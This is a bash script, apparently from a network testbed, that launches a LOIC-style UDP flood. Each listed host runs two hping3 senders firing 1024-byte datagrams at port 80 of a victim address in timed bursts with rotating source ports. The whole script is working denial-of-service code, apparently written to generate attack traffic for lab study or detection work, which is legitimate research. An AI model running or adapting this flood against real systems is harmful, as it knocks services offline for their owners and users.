#!/usr/bin/env bash
# LOIC-style UDP flood from several hosts (hping3): every bot runs two "threads", each a fixed source
# port sending fixed-size datagrams to port 80 for a few seconds, then a new socket (new port).
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
read -ra bots <<< "$TB_BOTS"
hosts=("$TB_NS" "${bots[@]}")
threads=$(( ${#hosts[@]} * 2 ))
burst=4
bursts=$(( TB_SECONDS * 8 / 10 / burst )); [ "$bursts" -ge 1 ] || bursts=1
per_burst=$(( TB_PACKETS / threads / bursts )); [ "$per_burst" -ge 1 ] || per_burst=1
interval=$(( burst * 1000000 / per_burst )); [ "$interval" -ge 10 ] || interval=10
for ((b = 0; b < bursts; b++)); do
  for h in "${hosts[@]}" "${hosts[@]}"; do
    tb_bg "$h" hping3 --udp --quiet -p 80 -s $((10000 + RANDOM % 50000)) -k -d 1024 -c "$per_burst" -i "u$interval" "$TB_VICTIM"
  done
  wait
done
